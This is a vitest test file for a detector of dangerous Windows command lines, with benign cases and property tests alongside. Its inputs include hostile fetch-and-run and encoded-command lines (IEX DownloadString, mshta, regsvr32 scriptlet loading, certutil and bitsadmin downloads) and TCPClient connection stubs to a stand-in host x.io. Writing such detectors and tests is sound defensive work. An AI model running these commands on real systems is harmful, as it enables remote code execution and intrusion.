import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { findWindowsDangers } from './windows-dangers.ts';

describe('findWindowsDangers()', () => {
  it.each([
    ["IEX (New-Object Net.WebClient).DownloadString('https://x.io/a')", 'fetch-run'],
    ['i^w^r https://x.io/a.ps1 | i`ex # powershell', 'fetch-run'],
    ["('Downlo'+'adString') | iex", 'fetch-run'],
    ['powershell Start-BitsTransfer https://x.io/a.exe; Start-Process a.exe', 'fetch-run'],
    ['mshta https://x.io/a.hta', 'fetch-run'],
    ['mshta.exe javascript:x', 'fetch-run'],
    ['regsvr32 /s /n /u /i:https://x.io/a.sct scrobj.dll', 'fetch-run'],
    ['rundll32.exe javascript:"x"', 'fetch-run'],
    ['rundll32.exe a.dll,B http://127.0.0.1.x.io/', 'fetch-run'],
    ['msiexec /i https://x.io/a.msi', 'fetch-run'],
    ['certutil -urlcache -f https://x.io/a a.exe', 'fetch-run'],
    ['bitsadmin /transfer j https://x.io/a c:\\a', 'fetch-run'],
    ['certutil -decode a.txt a.exe', 'decode-run'],
    [`powershell -w hidden -enc ${'A'.repeat(40)}`, 'decode-run'],
    [`pwsh.exe -EncodedCommand ${'A'.repeat(40)}`, 'decode-run'],
    ['iex ([Convert]::FromBase64String($x))', 'decode-run'],
    ['$c = New-Object System.Net.Sockets.TCPClient("x.io",99);$s = $c.GetStream()', 'connect'],
    ['$c = New-Object Net.Sockets.TCPClient("x.io",99);$s = $c."Get`Stream"()', 'connect'],
  ])('%s: %s', (line, kind) => {
    const text = `echo a\n${line}\necho b`;
    expect(findWindowsDangers(text)).toMatchObject([
      { kind, start: 7, end: 7 + line.length, isSecret: false },
    ]);
  });

  it('finds a connection whose bytes are used on another line, and no test of a port', () => {
    const socket = '$socket = New-Object -TypeName System.Net.Sockets.TcpClient';
    const wait = `${socket}\n$c = $socket.BeginConnect($hostname, $port, $null, $null)\n$socket.Close()`;
    expect(findWindowsDangers(wait)).toEqual([]);
    expect(findWindowsDangers(`${wait}\n$s = $socket.GetStream()`)).toMatchObject([
      { kind: 'connect', start: 0, end: socket.length },
    ]);
    expect(findWindowsDangers(`${socket}\nIEX $x`)).toMatchObject([{ kind: 'connect' }]);
  });

  it('names the address', () => {
    const [danger] = findWindowsDangers("iwr 'https://x.io/a.ps1' | iex");
    expect(danger?.url).toBe('https://x.io/a.ps1');
  });

  it.each([
    'Invoke-WebRequest https://x.io/a.zip -OutFile a.zip',
    'powershell -File build.ps1',
    'powershell -Command "Get-Process"',
    'certutil -hashfile a SHA256',
    'msiexec /i setup.msi',
    'rundll32 shell32.dll,Control_RunDLL',
    'rundll32 url.dll,FileProtocolHandler http://127.0.0.1/',
    '[Convert]::FromBase64String($x)',
    'echo iexplore',
    '',
  ])('%j has none', (line) => {
    expect(findWindowsDangers(line)).toEqual([]);
  });

  it('is bounded on one line of 1 MB and on many lines', () => {
    expect(findWindowsDangers('powershell '.repeat(100_000))).toEqual([]);
    expect(findWindowsDangers('iwr x | iex\n'.repeat(10_000))).toHaveLength(10_000);
  });

  it('has places within the text, for any text', () => {
    const word = fc.constantFrom(
      'iwr ',
      'iex ',
      'powershell ',
      '-enc ',
      '\n',
      '^',
      '`',
      'https://x.io ',
    );
    fc.assert(
      fc.property(fc.array(word, { maxLength: 40 }), (words) => {
        const text = words.join('');
        for (const { start, end } of findWindowsDangers(text))
          expect(0 <= start && start <= end && end <= text.length).toBe(true);
      }),
    );
  });
});
